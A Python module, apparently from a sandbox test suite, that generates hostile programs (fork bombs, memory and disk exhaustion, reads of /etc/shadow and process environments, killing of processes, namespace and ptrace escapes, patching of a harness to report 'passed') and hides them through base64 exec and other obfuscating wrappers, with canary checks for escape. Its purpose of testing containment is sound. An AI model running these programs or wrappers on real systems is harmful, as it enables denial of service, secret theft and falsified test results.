"""Hostile programs, the world outside that they attack, and a generator of many more of them.

`World` holds what a program may not reach: secrets, listeners, a process, a folder. `evidence`
says what was reached. `FAMILIES` are the attacks, as texts that print ESCAPE where they see that
they have succeeded; `generate` draws parameters, combines attacks and wraps them so that they look
different.
"""

from __future__ import annotations

import base64
import contextlib
import os
import random
import secrets
import selectors
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Self

import psutil

__all__ = ["FAMILIES", "Family", "World", "generate", "processes_below"]


# Where a program that got out could write.
_PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/", str(Path.home()), ".")


class World:
    """What is outside the sandbox and must stay untouched; a context manager."""

    def __init__(self) -> None:
        self.token = "canary" + secrets.token_hex(8)
        self.secret = "secret" + secrets.token_hex(16)  # in the environment
        self.content = "content" + secrets.token_hex(16)  # in a file
        self.answer = "answer" + secrets.token_hex(16)  # that a test expects
        self.connections: list[str] = []
        self._stop = threading.Event()

    def __enter__(self) -> Self:
        self.folder = Path(tempfile.mkdtemp(prefix=f"{self.token}-", dir="/tmp"))
        self.folder.chmod(0o777)
        self.file = self.folder / "file"
        self.file.write_text(self.content)
        self.file.chmod(0o666)
        os.environ[self.token] = self.secret
        self._listen()
        # A process of the same user that holds the secret in its environment, as a trainer would.
        self.victim = subprocess.Popen(["sleep", "100000"], env={self.token: self.secret})
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        for server in self._sockets:
            server.close()
        self.victim.kill()
        self.victim.wait()
        del os.environ[self.token]
        for place in (str(self.folder), *_PLACES):
            with contextlib.suppress(OSError):
                for left in Path(place).iterdir():
                    if place == str(self.folder) or (self.token in left.name and left.is_file()):
                        left.unlink()
        self.folder.rmdir()

    def _listen(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0{self.token}")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix_path = str(self.folder / "socket")
        self.unix.bind(self.unix_path)
        Path(self.unix_path).chmod(0o777)
        self._sockets = [self.tcp, self.udp, self.abstract, self.unix]
        for server in (self.abstract, self.unix):
            server.listen()

    def _accept(self) -> None:
        with selectors.DefaultSelector() as selector:
            for server in self._sockets:
                selector.register(server, selectors.EVENT_READ)
            while not self._stop.is_set():
                for key, _ in selector.select(0.05):
                    assert isinstance(key.fileobj, socket.socket)
                    if key.fileobj is self.udp:
                        self.connections.append(f"udp {self.udp.recv(100)!r}")
                    else:
                        connection, _ = key.fileobj.accept()
                        self.connections.append(f"stream {key.fileobj.getsockname()!r}")
                        connection.close()

    def evidence(self, output: str = "") -> list[str]:
        """What a program with this output has reached; nothing, it is hoped."""
        found = [f"it says: {line}" for line in output.splitlines() if "ESCAPE" in line]
        if self.secret in output:
            found.append("the environment's secret is in its output")
        if self.content in output:
            found.append("the file's secret is in its output")
        found += self.connections
        if self.victim.poll() is not None:
            found.append(f"the victim ended with {self.victim.returncode}")
        elif psutil.Process(self.victim.pid).status() == psutil.STATUS_STOPPED:
            found.append("the victim was stopped")
        if self.file.read_text() != self.content:
            found.append("the file was written to")
        left = {path.name for path in self.folder.iterdir()} - {"file", "socket"}
        found += [f"left behind: {name}" for name in left]
        for place in _PLACES:
            with contextlib.suppress(OSError):
                names = [p.name for p in Path(place).glob(f"*{self.token}*") if p != self.folder]
                found += [f"left behind in {place}: {name}" for name in names]
        return found

    def fill(self, text: str, *, job: int = 0, harmless: bool = False) -> str:
        """A program with the addresses of this world; `harmless`: safe outside a sandbox."""
        places = [str(self.folder), "/", "/etc", "/usr/lib", "/var/tmp", "/root", "/home", "/dev"]
        places += ["/proc", str(Path(os.__file__).parent), f"/tmp/..{self.folder}"]
        if harmless:
            text = text.replace("os.getppid()", "$VICTIM$").replace("$PARENT$", "$VICTIM$")
            places = places[:1]
        for name, value in {
            "PLACES": places,
            "JOB": f"-left-{job}",
            "PORT": self.port,
            "TOKEN": self.token,
            "FOLDER": str(self.folder),
            "VICTIM": self.victim.pid,
            "PARENT": os.getpid(),
            "SECRET_FILE": str(self.file),
            "UNIX": self.unix_path,
        }.items():
            text = text.replace(f"${name}$", repr(value))
        # A program that prints its own text has not succeeded by that.
        return text.replace('b"ESCAPE', 'b"ESC" b"APE').replace('("ESCAPE', '("ESC" "APE')


def processes_below(expected: tuple[set[int], int] | None = None) -> tuple[set[int], int]:
    """This process's children, and how many processes there are below them.

    A server makes ready for its next job after it has answered: `expected` is waited for.
    """
    deadline = time.monotonic() + 3.0
    while True:
        own = psutil.Process()
        found = {child.pid for child in own.children()}, len(own.children(recursive=True))
        if expected is None or found == expected or time.monotonic() > deadline:
            return found
        time.sleep(0.02)


@dataclass(frozen=True)
class Family:
    """One kind of attack: a text in which `$name$` is filled in, and `%name%` is a parameter.

    `stalls`: it uses up its whole time where it does not succeed otherwise.
    """

    text: str
    parameters: dict[str, tuple[object, ...]]
    stalls: bool = False

    def draw(self, choose: random.Random, **fixed: object) -> str:
        """The attack with parameters drawn, but for those that are given."""
        text = textwrap.dedent(self.text).strip()
        for name, values in self.parameters.items():
            value = fixed[name] if name in fixed else choose.choice(values)
            text = text.replace(f"%{name}%", repr(value))
        return text


FAMILIES: dict[str, Family] = {
    "forks": Family(
        """
        import os, time
        made, token = 0, $TOKEN$
        for _ in range(%count%):
            try:
                if os.fork() == 0:
                    time.sleep(%sleep%)
                    os._exit(0)
                made += 1
            except OSError:
                break
        if made >= 64: print("ESCAPE", made, "forks")
        """,
        {"count": (300, 1000, 3000), "sleep": (0.01, 5, 60)},
    ),
    "fork bomb": Family(
        """
        import os
        while True:
            try: os.fork()
            except OSError: pass
        """,
        {},
        stalls=True,
    ),
    "threads": Family(
        """
        import threading, time
        made = 0
        for _ in range(%count%):
            try: threading.Thread(target=time.sleep, args=(%sleep%,), daemon=True).start()
            except (RuntimeError, MemoryError): break
            made += 1
        if made >= 64: print("ESCAPE", made, "threads")
        """,
        {"count": (300, 3000), "sleep": (1, 60)},
    ),
    "memory": Family(
        """
        held = []
        try:
            for _ in range(%pieces%):
                held.append(bytearray(10_000_000_000 // %pieces%))
            print("ESCAPE 10 GB")
        except MemoryError:
            held.clear()
        """,
        {"pieces": (1, 10, 1000)},
    ),
    "memory of many": Family(
        """
        import os, time
        for _ in range(%processes%):
            try:
                if os.fork() == 0:
                    held = bytearray(%size% << 20)
                    for i in range(0, len(held), 4096): held[i] = 1
                    time.sleep(60)
            except (OSError, MemoryError): pass
        time.sleep(60)
        """,
        {"processes": (4, 16), "size": (100, 300)},
        stalls=True,
    ),
    "memory without address": Family(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        made = 0
        for _ in range(%count%):
            f = libc.memfd_create(b"x", 0)
            if f >= 0: made += 1
            s = libc.shmget(0, ctypes.c_size_t(1 << 24), 0o1666)
            if s >= 0: made += 1
        if made: print("ESCAPE", made, "pieces of memory that nothing counts")
        """,
        {"count": (1, 20)},
    ),
    "loop": Family("while True: %body%", {"body": (0, 1)}, stalls=True),
    "loop that holds the lock": Family("9 ** 9 ** 9 ** %n%", {"n": (8, 9)}, stalls=True),
    "sleep": Family("import time; time.sleep(%n%)", {"n": (60, 10**6)}, stalls=True),
    "loop that ignores signals": Family(
        """
        import signal, time
        for s in range(1, 65):
            try: signal.signal(s, signal.SIG_IGN)
            except (OSError, ValueError): pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True: time.sleep(%n%)
        """,
        {"n": (0, 1)},
        stalls=True,
    ),
    "write outside": Family(
        """
        import os
        for folder in $PLACES$:
            try:
                with open(folder + "/" + $TOKEN$, %mode%) as f: f.write(b"x")
                print("ESCAPE wrote in", folder)
            except OSError: pass
        try:
            with open($SECRET_FILE$, "r+b") as f: f.write(b"gone")
        except OSError: pass
        """,
        {"mode": ("wb", "ab", "xb")},
    ),
    "read outside": Family(
        """
        import os
        for path in [$SECRET_FILE$, "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc",
                     "/proc/1/root" + $SECRET_FILE$, "/proc/self/cwd/../../.." + $SECRET_FILE$]:
            try: print("ESCAPE read", path, open(path, %mode%).read()[:100])
            except OSError: pass
        try:
            os.symlink($SECRET_FILE$, %name%); print("ESCAPE", open(%name%).read())
        except OSError: pass
        """,
        {"mode": ("r", "rb"), "name": ("a", "b")},
    ),
    "connect": Family(
        """
        import socket
        def attempt(family, address, kind=socket.SOCK_STREAM):
            try:
                s = socket.socket(family, kind); s.settimeout(0.2)
                if kind == socket.SOCK_DGRAM: s.sendto(b"hello", address)
                else: s.connect(address)
                print("ESCAPE reached", address)
            except OSError: pass
        %which%
        attempt(socket.AF_INET, ("127.0.0.1", $PORT$))
        attempt(socket.AF_INET6, ("::ffff:127.0.0.1", $PORT$))
        attempt(socket.AF_UNIX, "\\0" + $TOKEN$)
        attempt(socket.AF_UNIX, $UNIX$)
        attempt(socket.AF_INET, ("169.254.169.254", 80))
        attempt(socket.AF_INET, ("8.8.8.8", 53), socket.SOCK_DGRAM)
        attempt(socket.AF_VSOCK, (2, 22))
        """,
        {"which": (0, 1)},
    ),
    "datagram": Family(
        """
        import socket
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(%text%, ("127.0.0.1", $PORT$))
        except OSError: pass
        """,
        {"text": (b"x", b"secret")},
    ),
    "strange sockets": Family(
        """
        import socket
        # netlink, packet, alg, vsock, can, bluetooth, xdp
        for family in (16, 17, 38, 40, 29, 31, 44):
            for kind in (1, 2, 3, 5):
                try: socket.socket(family, kind, %protocol%); print("ESCAPE opened", family, kind)
                except OSError: pass
        """,
        {"protocol": (0, 1)},
    ),
    "environment": Family(
        """
        import os
        for pid in [os.getppid(), 1, $PARENT$, $VICTIM$, "self", "thread-self", *range(1, %most%)]:
            for name in ("environ", "cmdline", "maps", "fd"):
                try:
                    path = f"/proc/{pid}/{name}"
                    if name == "fd": print([os.readlink(f"{path}/{n}") for n in os.listdir(path)])
                    else: print(pid, open(path, "rb").read()[:2000])
                except OSError: pass
        print(dict(os.environ), $TOKEN$ in os.environ and "ESC" "APE")
        """,
        {"most": (2, 30)},
    ),
    "signals": Family(
        """
        import os, signal
        for pid in [$VICTIM$, os.getppid(), $PARENT$]:
            for number in (%first%, signal.SIGKILL):
                if pid > 1:
                    try: os.kill(pid, number); print("signalled", pid)
                    except OSError: pass
        """,
        {"first": (0, 15, 19)},
    ),
    "signals to all": Family(
        """
        import os, signal
        signal.signal(%number%, signal.SIG_IGN) if %number% != 9 else None
        for pid in (0, 1, -1, os.getppid() or -1):
            try: os.kill(pid, %number%)
            except OSError: pass
        """,
        {"number": (15, 9, 1)},
    ),
    "signals by the side door": Family(
        """
        import fcntl, os, struct, signal
        r, w = os.pipe()
        for pid in ($VICTIM$, $PARENT$):
            try:
                fcntl.fcntl(r, fcntl.F_SETOWN, pid)
                fcntl.fcntl(r, 10, signal.SIGKILL)
                fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
                os.write(w, b"x")
            except OSError: pass
            try: signal.pidfd_send_signal(os.pidfd_open(pid), %number%)
            except OSError: pass
        """,
        {"number": (9, 19)},
    ),
    "output": Family(
        """
        import os
        for _ in range(1_000_000_000 // %piece%): os.write(%where%, b"x" * %piece%)
        os.write(1, b"ESCAPE 1 GB")
        """,
        {"piece": (1000, 100_000, 10_000_000), "where": (1, 2, 3)},
    ),
    "disk": Family(
        """
        import os
        size = 0
        try:
            for i in range(1_000_000_000 // %piece%):
                path = %folder% + "/" + $TOKEN$ + str(i % %files%)
                with open(path, "ab") as f: size += f.write(b"x" * %piece%)
        except OSError: pass
        if size > 300 << 20: print("ESCAPE", size, "bytes written")
        """,
        {"piece": (100_000, 10_000_000), "files": (1, 50), "folder": ("/tmp", "/dev/shm", ".")},
    ),
    "files": Family(
        """
        n = 0
        try:
            for n in range(%count%): open(f"f{n}", "w").close()
        except OSError: pass
        if n > 50_000: print("ESCAPE", n, "files")
        """,
        {"count": (1000, 30_000)},
    ),
    "daemon": Family(
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for f in range(3, 64):
                    try: os.close(f)
                    except OSError: pass
                if %quiet%:
                    null = os.open("/dev/null", os.O_RDWR)
                    for f in range(3): os.dup2(null, f)
                os.setpgid(0, 0)
                time.sleep(0.3)
                try: open($FOLDER$ + "/daemon", "w").write("x")
                except OSError: pass
                time.sleep(1000)
            os._exit(0)
        print("left a daemon")
        """,
        {"quiet": (0, 1)},
    ),
    "leave behind": Family(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for folder in ("/tmp", "/dev/shm", "."):
            try:
                names = [n for n in os.listdir(folder) if n.startswith($TOKEN$ + "-left-")]
                if set(names) - {$TOKEN$ + $JOB$}: print("ESCAPE found", names)
            except OSError: pass
            try: open(f"{folder}/" + $TOKEN$ + $JOB$, "w").write("left")
            except OSError: pass
        key = 4711
        if libc.shmget(key, 0, 0) >= 0: print("ESCAPE found shared memory")
        libc.shmget(key, ctypes.c_size_t(4096), 0o1666)
        if libc.syscall(250, 10, -3, b"user", b"canary", 0) >= 0: print("ESCAPE found a key")
        libc.syscall(248, b"user", b"canary", b"left", 4, %ring%)
        """,
        {"ring": (-3, -4, -5)},
    ),
    "namespaces": Family(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(%flags%) == 0: print("ESCAPE new namespaces")
        if libc.mount(b"none", b"/proc", b"proc", 0, None) == 0: print("ESCAPE mounted proc")
        if libc.umount2(b"/proc", 2) == 0: print("ESCAPE unmounted proc")
        if libc.umount2(b"/tmp", 2) == 0: print("ESCAPE unmounted tmp")
        if libc.chroot(b"/tmp") == 0: print("ESCAPE chroot")
        pid = libc.syscall(56, %flags% | 17, 0, 0, 0, 0)
        if pid == 0: os._exit(0)
        if pid > 0: print("ESCAPE cloned into namespaces")
        try: os.setuid(0); print("ESCAPE root") if os.getuid() == 0 else None
        except OSError: pass
        """,
        {"flags": (0x10000000, 0x10020000, 0x30000000)},
    ),
    "trace": Family(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), 1, $VICTIM$, $PARENT$):
            if libc.ptrace(%request%, pid, 0, 0) == 0: print("ESCAPE traces", pid)
            buffer = ctypes.create_string_buffer(64)
            vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
            if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0: print("ESCAPE reads", pid)
        """,
        {"request": (16, 16902)},
    ),
    "calls of the kernel": Family(
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (425, 321, 298, 323, 246, 175, 167, 304, 430, 428, 155):
            if libc.syscall(number, 0, 0, 0, 0, 0) >= 0: print("ESCAPE call", number)
        x32 = %x32%
        if x32 and libc.syscall(0x40000000 + 39) > 0: print("ESCAPE x32")
        """,
        {"x32": (0, 1)},
    ),
    "descriptors": Family(
        """
        import os, socket
        for f in range(%first%, 300):
            try: kind = os.fstat(f).st_mode >> 12
            except OSError: continue
            # The third is the program's own, for results.
            if kind == 12 and f > 3: print("ESCAPE has a socket", f)
            try: os.write(f, b'{"ready": true}\\n')
            except OSError: pass
            try: os.listdir(f); print("ESCAPE has a folder", f)
            except OSError: pass
        """,
        {"first": (3, 4)},
    ),
    "crash": Family(
        """
        import ctypes, sys, os
        how = %how%
        if how == 0: ctypes.string_at(0)
        if how == 1: os.abort()
        if how == 2: os.kill(os.getpid(), 9)
        if how == 3: sys.setrecursionlimit(10**8); f = lambda: f(); f()
        if how == 4: os._exit(0)
        if how == 5: raise SystemExit(0)
        """,
        {"how": (0, 1, 2, 3, 4, 5)},
    ),
    "the harness": Family(
        """
        import gc, json, os, sys, builtins
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if "secret" in repr(value)[:10_000]: print(repr(value)[:2000])
            frame = frame.f_back
        for thing in gc.get_objects()[:%most%]:
            if type(thing) is dict and $TOKEN$ in thing: print("ESCAPE found", thing)
        json.dumps = json.loads = lambda *a, **k: '{"status": "passed"}'
        builtins.len = lambda x: 0
        os.write(3, b'{"nonce": "", "index": 0, "value": "1"}\\n{"ready": true}\\n' * %most%)
        """,
        {"most": (10, 1000, 100_000)},
    ),
}


def generate(seed: int, world: World) -> tuple[str, bool]:
    """A hostile program drawn with this seed, and whether it stalls until it is ended."""
    choose = random.Random(seed)
    parts = choose.choices(list(FAMILIES.values()), k=choose.choices((1, 2, 3), (6, 3, 1))[0])
    stalls = any(part.stalls for part in parts)
    text = "\n".join(_attempted(part.draw(choose)) for part in parts)
    text = world.fill(text, job=seed)
    for _ in range(choose.choices((0, 1, 2, 3), (2, 5, 3, 1))[0]):
        text = choose.choice(_WRAPS)(text, choose)
    return text, stalls


def _attempted(text: str) -> str:
    body = textwrap.indent(text, "    ")
    return f"try:\n{body}\nexcept Exception as error: print(type(error).__name__)"


def _encoded(text: str, choose: random.Random) -> str:
    code = base64.b64encode(text.encode())
    run = choose.choice((
        "exec({})",
        "getattr(__import__('built' + 'ins'), 'ex' + 'ec')({})",
        "(lambda: exec({}, {{'__name__': '__main__'}}))()",
        "exec(compile({}, 'x', 'exec'))",
        "[c for c in ().__class__.__base__.__subclasses__()] and exec({})",
    ))  # fmt: skip
    return run.format(f"__import__('base64').b64decode({code!r}).decode()")


def _turned(text: str, choose: random.Random) -> str:
    shift = choose.randrange(1, 200)
    codes = [ord(letter) + shift for letter in text]
    return f"exec(''.join(chr(c - {shift}) for c in {codes!r}))"


def _in_thread(text: str, choose: random.Random) -> str:
    del choose
    made = f"threading.Thread(target=exec, args=({text!r}, {{}}))"
    return f"import threading\nt = {made}\nt.start()\nt.join()"


def _in_child(text: str, choose: random.Random) -> str:
    wait = choose.choice(("os.waitpid(p, 0)", "pass"))
    return (
        f"import os\np = os.fork()\nif p == 0:\n    exec({text!r}, {{}})\n    os._exit(0)\n{wait}"
    )


def _in_session(text: str, choose: random.Random) -> str:
    del choose
    return (
        f"import os\nif os.fork() == 0:\n    os.setsid()\n    exec({text!r}, {{}})\n    os._exit(0)"
    )


def _in_program(text: str, choose: random.Random) -> str:
    wait, apart = choose.choice((".wait()", "")), choose.random() < 0.5
    made = f"subprocess.Popen([sys.executable, '-c', {text!r}], start_new_session={apart})"
    return f"import subprocess, sys\n{made}{wait}"


def _at_exit(text: str, choose: random.Random) -> str:
    del choose
    return f"import atexit\natexit.register(exec, {text!r}, {{}})"


def _replaced(text: str, choose: random.Random) -> str:
    """The process becomes another interpreter, with nothing of the harness left in it."""
    del choose
    return f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', {text!r}])"


def _in_finalizer(text: str, choose: random.Random) -> str:
    del choose
    return f"class X:\n    def __del__(self, run=exec): run({text!r}, {{}})\nx = X()\ndel x"


_WRAPS: tuple[Callable[[str, random.Random], str], ...] = (
    _encoded, _encoded, _turned, _in_thread, _in_child, _in_session, _in_program, _at_exit,
    _replaced, _in_finalizer,
)  # fmt: skip


if __name__ == "__main__":  # show what a seed gives
    with World() as shown:
        sys.stdout.write(generate(int(sys.argv[1]), shown)[0] + "\n")
